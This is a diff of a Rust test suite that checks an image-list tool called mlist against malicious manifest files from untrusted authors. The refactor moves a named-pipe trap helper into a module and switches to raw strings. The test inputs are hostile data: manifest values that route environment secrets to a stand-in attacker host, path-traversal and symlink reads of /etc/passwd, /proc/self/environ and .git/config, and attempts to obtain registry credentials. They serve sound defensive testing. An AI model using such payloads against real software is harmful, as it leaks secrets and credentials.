@@ -1,18 +1,19 @@
 //! A malicious manifests.toml: what `--untrusted` prevents, and what `--root` prevents for all authors.
 
-use std::fs::{self, OpenOptions};
+use std::fs;
 use std::io::{Read as _, Write as _};
 use std::net::{SocketAddr, TcpListener};
 use std::os::unix::fs::{PermissionsExt as _, symlink};
-use std::path::PathBuf;
-use std::process::Command;
 use std::sync::{Arc, Mutex, PoisonError};
-use std::thread::JoinHandle;
 
 use crate::support::any_registry::AnyRegistry;
 use crate::support::context::{Context, Output};
 use crate::support::images::{Dialect, Image, write_layout};
 use crate::support::registry::{Account, Auth, Authorization, Knobs, Registry};
+
+use trap::Trap;
+
+mod trap;
 
 /// A part of every text that must not leak.
 const SECRET: &str = "s3cr3t";
@@ -60,30 +61,6 @@ impl Evil {
     }
 }
 
-/// A pipe outside the project that detects whether it was opened for reading.
-struct Trap {
-    path: PathBuf,
-    sprung: JoinHandle<()>,
-}
-
-impl Trap {
-    fn set(path: PathBuf) -> Self {
-        let made = Command::new("mkfifo").arg(&path).status().expect("mkfifo is installed");
-        assert!(made.success());
-        let writer = path.clone();
-        // Opening a pipe for writing blocks until it is opened for reading, however briefly.
-        let sprung = std::thread::spawn(move || drop(OpenOptions::new().write(true).open(writer)));
-        Self { path, sprung }
-    }
-
-    #[track_caller]
-    fn was_not_opened(self) {
-        assert!(!self.sprung.is_finished(), "{} was opened", self.path.display());
-        drop(OpenOptions::new().read(true).open(&self.path));
-        self.sprung.join().expect("the trap works: now it was opened");
-    }
-}
-
 /// Creates a project with secrets around it, and a host of the attacker that its file may name as `EVIL`.
 fn project(manifest: &str) -> (Context, Evil) {
     let evil = Evil::start();
@@ -110,6 +87,11 @@ tags = ["{{v}}"]
     )
 }
 
+/// Returns a list that includes other files.
+fn including(globs: &[&str]) -> String {
+    format!("include = {globs:?}\n{}", list(r#""v1""#))
+}
+
 /// Checks that no secret is in the output, in the JSON or in a request.
 #[track_caller]
 fn assert_kept(output: &Output, context: &Context, evil: &Evil) {
@@ -126,22 +108,30 @@ const PLAN: &str = "plan --untrusted -vv --format human --format json=plan.json"
 
 #[test]
 fn a_variable_of_the_environment_reaches_no_host_and_no_log() {
-    for sink in [
-        "source = \"EVIL/x:{v}\"\ntags = [\"1\"]",
-        "source = \"EVIL/{v}/x:1\"\ntags = [\"1\"]",
-        "source = \"{v}.example.invalid/x:1\"\ntags = [\"1\"]",
-        "source = \"EVIL/x:1\"\ntags = [\"{v}\"]",
-        "source = \"EVIL/x:1\"\ntags = [\"{v|lower} \"]",
-        "source = \"oci:{v}:1\"\ntags = [\"1\"]",
+    for (source, tag) in [
+        ("EVIL/x:{v}", "1"),
+        ("EVIL/{v}/x:1", "1"),
+        ("{v}.example.invalid/x:1", "1"),
+        ("EVIL/x:1", "{v}"),
+        ("EVIL/x:1", "{v|lower} "),
+        ("oci:{v}:1", "1"),
     ] {
         let manifest = format!(
-            "[vars]\nv = {{ env = \"SECRET\" }}\n[list.app]\nplatforms = [\"linux/amd64\"]\ntarget = \"EVIL/app\"\n{sink}\n"
+            r#"
+                [vars]
+                v = {{ env = "SECRET" }}
+                [list.app]
+                platforms = ["linux/amd64"]
+                source = "{source}"
+                target = "EVIL/app"
+                tags = ["{tag}"]
+            "#
         );
         let (context, evil) = project(&manifest);
         let output = context.mlist(PLAN).exits(2);
         assert!(output.stderr.contains("mlist::config::no_value"), "{output}");
         assert!(output.stderr.contains("--allow-env SECRET"), "{output}");
-        assert_eq!(evil.heard(), "", "nobody was asked: {sink}");
+        assert_eq!(evil.heard(), "", "nobody was asked: {source} {tag}");
         assert_kept(&output, &context, &evil);
         context.mlist("check --untrusted").exits(2);
     }
@@ -150,14 +140,14 @@ fn a_variable_of_the_environment_reaches_no_host_and_no_log() {
 #[test]
 fn the_same_file_gets_its_secret_out_where_its_author_is_trusted() {
     // This checks that the tests above can detect a leak.
-    let (context, evil) = project(&list("{ env = \"SECRET\" }"));
+    let (context, evil) = project(&list(r#"{ env = "SECRET" }"#));
     context.mlist("plan");
     assert!(evil.heard().contains("s3cr3t-of-the-environment"), "{}", evil.heard());
 }
 
 #[test]
 fn a_default_takes_the_place_of_what_is_not_read() {
-    let (context, evil) = project(&list("{ env = \"SECRET\", default = \"dev\" }"));
+    let (context, evil) = project(&list(r#"{ env = "SECRET", default = "dev" }"#));
     let output = context.mlist(PLAN).exits(4);
     assert!(evil.heard().contains("/v2/dev/app/manifests/dev"), "{}", evil.heard());
     assert_kept(&output, &context, &evil);
@@ -165,7 +155,7 @@ fn a_default_takes_the_place_of_what_is_not_read() {
 
 #[test]
 fn allow_env_lets_exactly_that_variable_through() {
-    let (context, evil) = project(&list("{ env = \"ALLOWED\" }"));
+    let (context, evil) = project(&list(r#"{ env = "ALLOWED" }"#));
     let output = context.mlist(PLAN).exits(2);
     assert!(output.stderr.contains("--allow-env ALLOWED"), "{output}");
     let allowed = format!("{PLAN} --allow-env ALLOWED");
@@ -174,8 +164,9 @@ fn allow_env_lets_exactly_that_variable_through() {
     for near in ["ALLOWED2", "ALLOW", "allowed", "SECRET"] {
         context.mlist(&format!("check --untrusted --allow-env {near}")).exits(2);
     }
-    let both =
-        list("{ env = \"ALLOWED\" }").replace("app:{v}", "app:{w}").replace("[list", "w = { env = \"SECRET\" }\n[list");
+    let both = list(r#"{ env = "ALLOWED" }"#)
+        .replace("app:{v}", "app:{w}")
+        .replace("[vars]\n", "[vars]\nw = { env = 'SECRET' }\n");
     context.manifest(&both.replace("EVIL", &evil.host()));
     let output = context.mlist(&allowed).exits(2);
     assert!(output.stderr.contains("`w` has no value"), "{output}");
@@ -184,7 +175,7 @@ fn allow_env_lets_exactly_that_variable_through() {
 
 #[test]
 fn an_allowed_value_is_not_quoted_in_a_problem() {
-    let (context, evil) = project(&list("{ env = \"SECRET\" }").replace("tags = [\"{v}\"]", "tags = [\"{v} {v}\"]"));
+    let (context, evil) = project(&list(r#"{ env = "SECRET" }"#).replace(r#"tags = ["{v}"]"#, r#"tags = ["{v} {v}"]"#));
     let output = context.mlist(&format!("{PLAN} --allow-env SECRET")).exits(2);
     assert!(output.stderr.contains("`{v} {v}` has a tag"), "{output}");
     assert_kept(&output, &context, &evil);
@@ -204,7 +195,7 @@ fn files_outside_of_the_folder_are_not_read_by_whatever_path() {
         "{name}/../../secret",
         "/proc/self/environ",
     ] {
-        let (context, evil) = project(&list(&format!("{{ file = \"{path}\", default = \"dev\" }}")));
+        let (context, evil) = project(&list(&format!(r#"{{ file = "{path}", default = "dev" }}"#)));
         fs::create_dir(context.path("sub")).expect("a folder");
         for (target, name) in [
             ("../secret", "link"),
@@ -226,7 +217,7 @@ fn files_outside_of_the_folder_are_not_read_by_whatever_path() {
 
 #[test]
 fn a_value_of_several_lines_is_refused_and_not_shown_to_anybody() {
-    let (context, evil) = project(&list("{ file = \"secrets\" }"));
+    let (context, evil) = project(&list(r#"{ file = "secrets" }"#));
     for content in ["s3cr3t-1\ns3cr3t-2\n".to_owned(), SECRET.repeat(50), "s3cr3t with blanks".to_owned()] {
         fs::write(context.path("secrets"), content).expect("a file");
         for command in ["plan", PLAN, "check"] {
@@ -255,7 +246,13 @@ fn a_manifest_that_is_a_link_out_of_its_folder_is_not_read() {
 fn layouts_outside_of_the_folder_are_not_opened() {
     let member = |source: &str, target: &str| {
         format!(
-            "[list.app]\nplatforms = [\"linux/amd64\"]\nsource = \"{source}\"\ntarget = \"{target}\"\ntags = [\"1\"]\n"
+            r#"
+                [list.app]
+                platforms = ["linux/amd64"]
+                source = "{source}"
+                target = "{target}"
+                tags = ["1"]
+            "#
         )
     };
     for (source, target) in [
@@ -288,7 +285,7 @@ fn layouts_outside_of_the_folder_are_not_opened() {
 #[test]
 fn git_is_not_run_for_a_stranger() {
     for word in ["describe", "tag", "commit", "branch"] {
-        let (context, evil) = project(&list(&format!("{{ git = \"{word}\" }}")));
+        let (context, evil) = project(&list(&format!(r#"{{ git = "{word}" }}"#)));
         let git = context.path("../bin/git");
         fs::write(&git, format!("#!/bin/sh\ntouch '{}'\necho s3cr3t\n", context.path("git-was-run").display()))
             .expect("a program");
@@ -305,9 +302,16 @@ fn git_is_not_run_for_a_stranger() {
 #[test]
 fn what_a_stranger_says_of_a_registry_opens_no_file_and_sends_no_secret() {
     let manifest = format!(
-        "[registry.\"EVIL\"]\nca = \"../outside/ca\"\nclient-cert = \"../outside/cert\"\nclient-key = \"../outside/key\"\n\
-         username-env = \"SECRET\"\npassword-env = \"PASSWORD\"\nconcurrency = 1\n{}",
-        list("\"dev\"")
+        r#"
+            [registry."EVIL"]
+            ca = "../outside/ca"
+            client-cert = "../outside/cert"
+            client-key = "../outside/key"
+            username-env = "SECRET"
+            password-env = "PASSWORD"
+            concurrency = 1
+            {}"#,
+        list(r#""dev""#)
     );
     let (mut context, evil) = project(&manifest);
     context.set("PASSWORD", "s3cr3t-password");
@@ -332,11 +336,11 @@ fn a_stranger_gets_nobodys_credentials() {
     let registry = Registry::start(Knobs { auth: Auth::Basic(account.clone()), ..Knobs::default() });
     let registry = AnyRegistry::InProcess(registry);
     registry.push("acme/app", "dev", &Image::new(Dialect::Oci, "linux/amd64", "app"));
-    let manifest = list("\"dev\"").replace("EVIL/{v}/app", "EVIL/acme/app").replace("EVIL", &registry.host());
+    let manifest = list(r#""dev""#).replace("EVIL/{v}/app", "EVIL/acme/app").replace("EVIL", &registry.host());
     let (mut context, evil) = project(&manifest);
     context.set(
         "DOCKER_AUTH_CONFIG",
-        format!("{{\"auths\":{{\"{}\":{{\"auth\":\"{}\"}}}}}}", registry.host(), account.encoded()),
+        format!(r#"{{"auths":{{"{}":{{"auth":"{}"}}}}}}"#, registry.host(), account.encoded()),
     );
     let helper = |context: &Context| context.log_in_by_helper(&registry.host(), &account);
     let file = |context: &Context| context.log_in(&registry.host(), &account);
@@ -358,9 +362,19 @@ fn what_is_a_strangers_own_works() {
     let image = Image::new(Dialect::Oci, "linux/amd64", "app");
     registry.push("acme/app-amd64", "v1.2.3", &image);
     let manifest = format!(
-        "[vars]\nversion = {{ file = \"link\" }}\n[defaults]\nplatforms = [\"linux/amd64\"]\ntags = [\"{{version}}\"]\n\
-         [list.app]\nsource = \"{host}/acme/{{name}}-{{arch}}:{{version}}\"\ntarget = \"{host}/acme/{{name}}\"\n\
-         [list.layout]\nsource = \"oci:in:{{version}}\"\ntarget = \"oci:out/new/{{name}}\"\n",
+        r#"
+            [vars]
+            version = {{ file = "link" }}
+            [defaults]
+            platforms = ["linux/amd64"]
+            tags = ["{{version}}"]
+            [list.app]
+            source = "{host}/acme/{{name}}-{{arch}}:{{version}}"
+            target = "{host}/acme/{{name}}"
+            [list.layout]
+            source = "oci:in:{{version}}"
+            target = "oci:out/new/{{name}}"
+        "#,
         host = registry.host()
     );
     let (context, evil) = project(&manifest);
@@ -379,7 +393,7 @@ fn what_is_a_strangers_own_works() {
 
 #[test]
 fn only_check_and_plan_read_a_strangers_file() {
-    let (context, evil) = project(&list("\"dev\""));
+    let (context, evil) = project(&list(r#""dev""#));
     for command in ["sync --untrusted", "sync -n --untrusted", "schema --untrusted", "check --allow-env ALLOWED"] {
         context.mlist(command).exits(2);
     }
@@ -388,7 +402,7 @@ fn only_check_and_plan_read_a_strangers_file() {
 
 #[test]
 fn a_root_that_is_none_is_told() {
-    let (context, _evil) = project(&list("\"dev\""));
+    let (context, _evil) = project(&list(r#""dev""#));
     for root in ["nowhere", "manifests.toml"] {
         let output = context.mlist(&format!("plan --root {root}")).exits(2);
         assert!(output.stderr.contains(&format!("`{root}`")) && output.stderr.contains("--root DIR"), "{output}");
@@ -408,7 +422,7 @@ fn files_outside_of_the_folder_are_not_included_by_whatever_path() {
         "*nk",
         ".git/config",
     ] {
-        let (context, evil) = project(&format!("include = [\"{glob}\"]\n{}", list("\"v1\"")));
+        let (context, evil) = project(&including(&[glob]));
         fs::write(context.path("../secret.toml"), "[list.s3cr3t]\n").expect("a file");
         for folder in ["sub", ".git"] {
             fs::create_dir(context.path(folder)).expect("a folder");
@@ -425,7 +439,7 @@ fn files_outside_of_the_folder_are_not_included_by_whatever_path() {
         assert_eq!(evil.heard(), "", "{glob}");
     }
     // A wildcard finds nothing outside the folder, and does not look there.
-    let (context, evil) = project(&format!("include = [\"*/secret\"]\n{}", list("\"v1\"")));
+    let (context, evil) = project(&including(&["*/secret"]));
     symlink("..", context.path("folder")).expect("a link");
     let output = context.mlist(PLAN).exits(2);
     assert!(output.stderr.contains("mlist::config::include_empty"), "{output}");
@@ -436,7 +450,7 @@ fn files_outside_of_the_folder_are_not_included_by_whatever_path() {
 
 #[test]
 fn a_pipe_outside_of_the_folder_is_not_opened_to_include_it() {
-    let (context, _evil) = project("include = [\"../*pipe\", \"pipe\"]\n");
+    let (context, _evil) = project(r#"include = ["../*pipe", "pipe"]"#);
     let trap = Trap::set(context.path("../pipe"));
     symlink("../pipe", context.path("pipe")).expect("a link");
     for command in [PLAN, "check --root ."] {
@@ -448,7 +462,7 @@ fn a_pipe_outside_of_the_folder_is_not_opened_to_include_it() {
 #[test]
 fn lines_of_files_that_are_not_theirs_reach_no_host_and_no_log() {
     for path in ["/etc/passwd", "../secret", "link", "folder/secret", ".git/config", "module/.git/config", "gits"] {
-        let manifest = list("\"v1\"") + &format!("matrix.line = {{ lines = \"{path}\" }}\n");
+        let manifest = list(r#""v1""#) + &format!(r#"matrix.line = {{ lines = "{path}" }}"#);
         let manifest = manifest.replace("EVIL/{v}/app:{v}", "EVIL/app:{line|tag}");
         let (context, evil) = project(&manifest);
         for folder in [".git", "module/.git"] {
@@ -472,7 +486,7 @@ fn lines_of_files_that_are_not_theirs_reach_no_host_and_no_log() {
 fn tags_are_listed_without_anybodys_credentials() {
     let account = Account::new("ci-bot", "s3cr3t-password");
     let registry = Registry::start(Knobs { auth: Auth::Basic(account.clone()), ..Knobs::default() });
-    let manifest = list("\"v1\"") + &format!("matrix.tag-of = {{ tags-of = \"{}/private/app\" }}\n", registry.host());
+    let manifest = list(r#""v1""#) + &format!(r#"matrix.tag-of = {{ tags-of = "{}/private/app" }}"#, registry.host());
     let (context, evil) = project(&manifest);
     context.log_in(&registry.host(), &account);
     let output = context.mlist(PLAN).exits(1);
